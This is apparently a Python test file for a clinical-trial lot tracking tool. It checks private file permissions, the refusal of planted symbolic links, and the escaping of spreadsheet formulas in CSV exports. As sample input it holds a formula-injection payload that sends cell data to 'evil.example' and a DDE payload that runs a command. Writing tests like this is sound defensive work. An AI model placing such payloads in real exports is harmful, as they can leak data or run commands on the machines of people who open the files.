"""Files are the service account's alone (design §6.9): the database, keys, exports,
backups and documents come out 0600 in 0700 folders, through an exclusive temporary file
and a rename, never through a planted symbolic link; spreadsheet formulas in exported
text are neutralised; an unblinded export says so in its file names."""

from __future__ import annotations

import csv
import datetime as dt
import stat
from pathlib import Path

import pytest
from typer.testing import CliRunner

from lottrack.cli import app
from lottrack.demo.scenario import Scenario
from lottrack.kernel.private_files import FileRefused, private_dir, write_private
from lottrack.storage.backup import backup
from lottrack.storage.db import Database
from lottrack.storage.models import utcnow
from lottrack.trial import export
from lottrack.trial.allocation import PLACEBO_FIRST
from lottrack.views.documents import signing
from tests.conftest import PASSWORD

runner = CliRunner()
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def mode(path: Path) -> str:
    return oct(stat.S_IMODE(path.stat().st_mode))


def test_a_private_file_is_0600_in_a_new_0700_folder(tmp_path: Path) -> None:
    target = private_dir(tmp_path / "a" / "b") / "f.bin"
    write_private(target, b"x")
    assert (mode(target), mode(tmp_path / "a"), mode(tmp_path / "a" / "b")) == (
        "0o600",
        "0o700",
        "0o700",
    )
    assert [p.name for p in target.parent.iterdir()] == ["f.bin"]  # no temporary left


def test_a_symbolic_link_at_the_target_is_refused_and_its_target_untouched(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (tmp_path / "out.csv").symlink_to(victim)
    with pytest.raises(FileRefused, match="symbolic link"):
        write_private(tmp_path / "out.csv", b"allocation")
    assert victim.read_text() == "precious"


def test_without_overwrite_an_existing_file_is_kept(tmp_path: Path) -> None:
    target = tmp_path / "copy.bak"
    target.write_bytes(b"old")
    with pytest.raises(Exception, match="already exists"):
        write_private(target, b"new", overwrite=False)
    assert target.read_bytes() == b"old"


def _infused_with_reaction(sc: Scenario, reaction: str) -> None:
    subject = sc.subject("TLS-501", dt.date(1968, 7, 14))
    lot_id, _ = sc.made_lot(subject)
    sc.release(lot_id)
    v1, _ = sc.enrol(subject, PLACEBO_FIRST, utcnow().date())
    sc.dispense(v1)
    sc.infuse(v1, reactions=reaction, grade=1)


def test_export_neither_follows_a_planted_link_nor_leaves_formulas_live(
    sc: Scenario, tmp_path: Path
) -> None:
    _infused_with_reaction(sc, HYPERLINK)
    out = tmp_path / "export"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    for name in ("allocation.csv.tmp", "unblinded-allocation.csv.tmp", "visits.csv.tmp"):
        (out / name).symlink_to(victim)
    result = runner.invoke(
        app,
        [
            "--db",
            sc.db.url,
            "export",
            "--format",
            "csv",
            "-o",
            str(out),
            "--as",
            "pharmacist",
            "--password-stdin",
        ],
        input=PASSWORD + "\n",
    )
    assert result.exit_code == 0, result.output
    assert victim.read_text() == "precious"
    assert "UNBLINDED" in result.stdout
    written = sorted(p.name for p in out.iterdir() if not p.is_symlink())
    assert written
    assert all(name.startswith("unblinded-") for name in written)
    assert all(mode(out / name) == "0o600" for name in written)
    with (out / "unblinded-visits.csv").open(newline="") as fh:
        reactions = [row["reactions"] for row in csv.DictReader(fh) if row["reactions"]]
    assert reactions == ["'" + HYPERLINK]


def test_a_blinded_export_neutralises_every_formula_start_and_keeps_plain_names(
    sc: Scenario, tmp_path: Path
) -> None:
    for start in ("=", "+", "-", "@"):
        assert export.spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    assert export.spreadsheet_safe("\t=1") == "'\t=1"
    assert export.spreadsheet_safe("\r=1") == "'\r=1"
    assert export.spreadsheet_safe("fever, grade 1") == "fever, grade 1"
    assert export.spreadsheet_safe(-3) == -3  # numbers are not formulas
    _infused_with_reaction(sc, "+cmd|' /C calc'!A0")
    with sc.db.session() as s:
        result = export.export(
            s, sc.cast.who("clinician"), fmt="csv", directory=tmp_path / "new" / "blinded"
        )
    assert result.blinded
    assert "visits.csv" in result.files
    assert mode(tmp_path / "new") == "0o700"
    text = (tmp_path / "new" / "blinded" / "visits.csv").read_text()
    assert "'+cmd|' /C calc'!A0" in text


def test_a_backup_is_0600_and_never_written_through_a_link(db: Database, tmp_path: Path) -> None:
    result = backup(db.url, tmp_path / "copy.bak")
    assert mode(result.path) == "0o600"
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (tmp_path / "link.bak").symlink_to(victim)
    with pytest.raises(Exception, match="already exists"):
        backup(db.url, tmp_path / "link.bak")
    assert victim.read_text() == "precious"


def test_the_facility_key_and_certificate_are_0600_in_a_0700_folder(tmp_path: Path) -> None:
    key, cert = signing.ensure_facility_key(tmp_path / "keys")
    assert (mode(key), mode(cert), mode(tmp_path / "keys")) == ("0o600", "0o600", "0o700")


def test_init_creates_the_sqlite_file_0600_in_a_0700_folder(tmp_path: Path) -> None:
    path = tmp_path / "site" / "lottrack.db"
    result = runner.invoke(
        app,
        ["--db", str(path), "init", "--admin", "alice", "--password-stdin"],
        input="alice-password-1\nalice-password-1\n",
    )
    assert result.exit_code == 0, result.output
    assert (mode(path), mode(path.parent)) == ("0o600", "0o700")
    wal = path.with_name("lottrack.db-wal")
    assert not wal.exists() or mode(wal) == "0o600"


def test_init_makes_an_existing_loose_sqlite_file_private(tmp_path: Path) -> None:
    path = tmp_path / "old.db"
    path.touch(mode=0o644)
    path.chmod(0o644)
    result = runner.invoke(
        app,
        ["--db", str(path), "init", "--admin", "alice", "--password-stdin"],
        input="alice-password-1\nalice-password-1\n",
    )
    assert result.exit_code == 0, result.output
    assert mode(path) == "0o600"


def test_init_on_the_default_database_makes_its_data_folder_private(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = tmp_path / "xdg" / "lottrack"
    data.mkdir(parents=True)
    data.chmod(0o755)  # as an older version left it
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "xdg"))
    monkeypatch.delenv("LOTTRACK_DATABASE_URL", raising=False)
    monkeypatch.delenv("LOTTRACK_CONFIG", raising=False)
    result = runner.invoke(
        app, ["init", "--admin", "alice", "--password-stdin"], input="alice-password-1\n"
    )
    assert result.exit_code == 0, result.output
    assert (mode(data), mode(data / "lottrack.db")) == ("0o700", "0o600")
